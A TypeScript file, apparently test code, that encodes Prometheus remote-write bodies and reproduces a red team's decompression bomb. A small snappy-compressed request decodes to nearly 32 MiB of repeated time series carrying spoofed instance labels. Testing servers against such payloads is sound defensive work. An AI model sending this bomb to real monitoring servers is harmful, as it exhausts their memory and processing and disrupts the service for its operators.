/**
 * A remote-write body that is small on the wire and large once decoded, as the second red team sent
 * it: one protobuf `TimeSeries` repeated until the `WriteRequest` nears Prometheus's 32 MiB decode
 * limit, compressed in snappy's block format as a literal of the first copy and then copies of 64
 * bytes (3 bytes each): about 21 times smaller, the most snappy allows. Prometheus decodes and
 * unmarshals all of it before refusing the duplicate samples (400).
 */

function varint(value: number): number[] {
  const bytes: number[] = [];
  for (; value >= 0x80; value = Math.floor(value / 128)) bytes.push((value % 128) | 0x80);
  bytes.push(value);
  return bytes;
}

function lengthDelimited(tag: number, content: Buffer): Buffer {
  return Buffer.concat([Buffer.from([tag, ...varint(content.length)]), content]);
}

/** One `TimeSeries` (prompb): its labels, sorted by name, and one sample. */
function timeSeries(labels: [string, string][]): Buffer {
  const encodedLabels = labels.map(([name, value]) =>
    lengthDelimited(0x0a, Buffer.concat([lengthDelimited(0x0a, Buffer.from(name)), lengthDelimited(0x12, Buffer.from(value))])),
  );
  const sample = Buffer.alloc(1 + 8 + 1 + 6);
  sample[0] = 0x09; // value, a double
  sample.writeDoubleLE(1, 1);
  sample[9] = 0x10; // timestamp, a varint of 6 bytes
  Buffer.from(varint(2 ** 40)).copy(sample, 10);
  return lengthDelimited(0x0a, Buffer.concat([...encodedLabels, lengthDelimited(0x12, sample)]));
}

/** Snappy's block format for `unit` repeated `times` times: a literal, then 64-byte copies of what came before. */
function snappyOfRepeats(unit: Buffer, times: number): Buffer {
  const total = unit.length * times;
  const parts: Buffer[] = [Buffer.from(varint(total))];
  const literalLength = unit.length - 1;
  parts.push(Buffer.from(literalLength < 60 ? [literalLength << 2] : [60 << 2, literalLength]), unit);
  let written = unit.length;
  // A copy with a 2-byte offset: tag (length - 1) << 2 | 2, then the offset, little-endian.
  const offset = unit.length;
  while (written < total) {
    const length = Math.min(64, total - written);
    parts.push(Buffer.from([((length - 1) << 2) | 2, offset & 0xff, offset >> 8]));
    written += length;
  }
  return Buffer.concat(parts);
}

/** The body (snappy-compressed `WriteRequest`) decoding to just under `decodedBytes` (Prometheus's limit is 32 MiB). */
export function remoteWriteBomb(decodedBytes = 32 * 1024 * 1024 - 4096): { body: Buffer; decodedBytes: number } {
  const unit = timeSeries([
    ['__name__', 'red_team_bomb'],
    ['instance', 'spoofed:9100'],
    ['job', 'bomb'],
  ]);
  const times = Math.floor(decodedBytes / unit.length);
  return { body: snappyOfRepeats(unit, times), decodedBytes: unit.length * times };
}

/** A valid remote-write body of one sample per series, `value` at `timestampMs`: snappy's block format, one literal. */
export function remoteWriteRequest(series: [string, string][][], value: number, timestampMs: number): Buffer {
  const request = Buffer.concat(series.map((labels) => timeSeriesAt([...labels].sort(([a], [b]) => (a < b ? -1 : 1)), value, timestampMs)));
  if (request.length > 65536) throw new Error('remoteWriteRequest: a literal of more than 64 KiB needs a longer tag');
  const length = request.length - 1;
  const tag = length < 60 ? [length << 2] : length < 256 ? [60 << 2, length] : [61 << 2, length & 0xff, length >> 8];
  return Buffer.concat([Buffer.from(varint(request.length)), Buffer.from(tag), request]);
}

function timeSeriesAt(labels: [string, string][], value: number, timestampMs: number): Buffer {
  const encodedLabels = labels.map(([name, labelValue]) =>
    lengthDelimited(0x0a, Buffer.concat([lengthDelimited(0x0a, Buffer.from(name)), lengthDelimited(0x12, Buffer.from(labelValue))])),
  );
  const sample = Buffer.concat([Buffer.from([0x09]), Buffer.alloc(8), Buffer.from([0x10, ...varint(timestampMs)])]);
  sample.writeDoubleLE(value, 1);
  return lengthDelimited(0x0a, Buffer.concat([...encodedLabels, lengthDelimited(0x12, sample)]));
}
